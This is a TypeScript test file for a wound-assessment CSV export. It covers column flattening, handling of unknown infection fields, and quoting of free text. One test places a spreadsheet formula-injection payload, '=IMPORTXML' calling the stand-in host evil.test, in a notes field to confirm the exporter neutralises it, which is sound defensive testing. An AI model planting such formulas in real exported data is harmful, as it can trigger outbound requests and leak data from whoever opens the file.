import { describe, expect, it } from 'vitest'
import { csvOf } from '../../../../src/shared/csv'
import { parseAssessment } from '../../../../src/api/schemas/assessment'
import { ASSESSMENTS_CSV, assessmentsCsv } from '../../../../src/features/assessments/assessment-csv'
import { englishWords } from '../../../../scripts/catalogs'
import { ROOT } from '../../../../tools/harness/paths'
import { assessment, asJson } from '../../api/fixtures'

/** The assessments' English words, from their catalog. */
const t = englishWords(`${ROOT}/src/words`, 'assessments')

/** The fixture's values with some replaced. */
function valuesWith(id: number, patch: Record<string, unknown>) {
  const { values } = assessment(id)
  if (!values) throw new Error('the fixture has values')
  return { ...values, ...patch }
}

const rowOf = (raw: unknown) => {
  const [row] = ASSESSMENTS_CSV.rows([parseAssessment(raw)])
  if (!row) throw new Error('no row')
  return row
}

/** The infection columns of an assessment whose values hold this infection and nothing else. */
const infectionCells = (infection: unknown) =>
  Object.fromEntries(
    Object.entries(rowOf({ id: 1, date: '2026-03-01', values: { infection } })).filter(([key]) => key.startsWith('infection_')),
  )

describe('the rows of the assessments CSV', () => {
  it('flattens every value into its own column, codes as sent', () => {
    expect(rowOf(assessment(3))).toEqual({
      id: 3,
      date: '2026-03-01',
      wound_edge: 'ATTACHED; ROLLED',
      peri_wound_skin: 'DRY; ERYTHEMA',
      pain_at_rest: 0,
      pain_with_movement: 4,
      pain_at_night: 10,
      exudate_amount: 'MODERATE',
      exudate_type: 'SERO-SANGUINEOUS',
      exudate_comment: 'changed twice daily',
      odor: 'NO',
      infection_infected: 'YES',
      infection_signs_of_local_infection: 'BLEEDING__FRIABLE_GRANULATION_TISSUE',
      infection_wound_swab: 'YES',
      infection_wound_swab_date: '2026-02-27',
      infection_other: undefined,
      tunneling_length: 2,
      tunneling_directions: '1; 12',
      undermining_length: 1,
      undermining_directions: '6',
      unable_to_capture: 'NO',
      unable_to_capture_reason: undefined,
      qol_performed: 'N/A',
      qol_details: undefined,
      notes: 'Dressing changed.',
      created_at: '2026-03-01 10:00:00',
      spec_issues: '',
    })
  })

  it('has exactly the columns the header names', () => {
    expect(Object.keys(rowOf(assessment(3))).sort()).toEqual([...ASSESSMENTS_CSV.headers].sort())
  })

  it('puts an infection of unknown shape into infection_other as JSON, and reports it', () => {
    const raw = asJson(assessment(4))
    ;(raw.values as Record<string, unknown>).infection = { status: 'SUSPECTED', organisms: ['MRSA'] }
    const row = rowOf(raw)
    expect(row.infection_other).toBe('{"status":"SUSPECTED","organisms":["MRSA"]}')
    expect(row.infection_infected).toBeUndefined()
    expect(row.infection_signs_of_local_infection).toBeUndefined()
    expect(row.spec_issues).toBe('values.infection: unexpected fields status, organisms')
  })

  it('keeps the known infection fields in their columns beside unknown ones', () => {
    expect(infectionCells({ infected: 'YES', signs_of_local_infection: ['PAIN', 'HEAT'], swab_result: { organism: 'MRSA' } })).toEqual({
      infection_infected: 'YES',
      infection_signs_of_local_infection: 'PAIN; HEAT',
      infection_wound_swab: undefined,
      infection_wound_swab_date: undefined,
      infection_other: '{"swab_result":{"organism":"MRSA"}}',
    })
    expect(infectionCells({ infected: true, wound_swab_date: null })).toMatchObject({
      infection_infected: true,
      infection_wound_swab_date: undefined,
    })
    expect(infectionCells('YES')).toMatchObject({ infection_infected: undefined, infection_other: '"YES"' })
    expect(infectionCells(['YES'])).toMatchObject({ infection_other: '["YES"]' })
    expect(infectionCells(undefined)).toEqual(infectionCells(null))
  })

  it('leaves cells empty when values are missing, and lists what is missing', () => {
    const row = rowOf({ id: 5, date: '2026-03-02' })
    expect(row).toMatchObject({ id: 5, date: '2026-03-02', spec_issues: '' })
    for (const header of ASSESSMENTS_CSV.headers.filter((h) => !['id', 'date', 'spec_issues'].includes(h))) {
      expect(row[header], header).toBeUndefined()
    }

    const partial = asJson(assessment(6))
    const values = partial.values as Record<string, unknown>
    delete values.pain
    delete values.tunneling
    values.odor = 'SWEET'
    const partialRow = rowOf(partial)
    expect(partialRow).toMatchObject({
      pain_at_rest: undefined,
      pain_at_night: undefined,
      tunneling_length: undefined,
      tunneling_directions: undefined,
      odor: 'SWEET',
      undermining_directions: '6',
    })
    expect(partialRow.spec_issues).toMatch(/^values\.pain: missing.*; values\.odor: unexpected value "SWEET"/)
  })

  it('keeps free-text entries of the coded lists', () => {
    const row = rowOf(assessment(7, { values: valuesWith(7, { wound_edge: ['OTHER-FREE-TEXT', 'rolled, thickened'] }) }))
    expect(row.wound_edge).toBe('OTHER-FREE-TEXT; rolled, thickened')
  })
})

describe('ASSESSMENTS_CSV', () => {
  it('writes a header row, quotes free text and neutralises formulas in it', () => {
    const raw = assessment(8, { values: valuesWith(8, { notes: '=IMPORTXML("http://evil.test")\nsecond line' }) })
    const csv = csvOf(assessmentsCsv(t), [parseAssessment(raw)]).csv
    const [header, ...rest] = csv.split('\r\n')
    expect(header).toBe(ASSESSMENTS_CSV.headers.join(','))
    expect(rest).toHaveLength(2)
    expect(rest[0]).toContain(',"\'=IMPORTXML(""http://evil.test"")\nsecond line",2026-03-01 10:00:00,')
    expect(
      rest[0]?.startsWith('8,2026-03-01,"ATTACHED; ROLLED","DRY; ERYTHEMA",0,4,10,MODERATE,SERO-SANGUINEOUS,changed twice daily,NO,YES,'),
    ).toBe(true)
  })

  it('names the file in the language shown, the data in the record’s own codes', () => {
    expect(assessmentsCsv(t).fileName(12)).toBe(t('csvFileName', { woundId: 12 }))
    expect(assessmentsCsv(t).fileName(12)).toBe('wound-12-assessments.csv')
  })
})
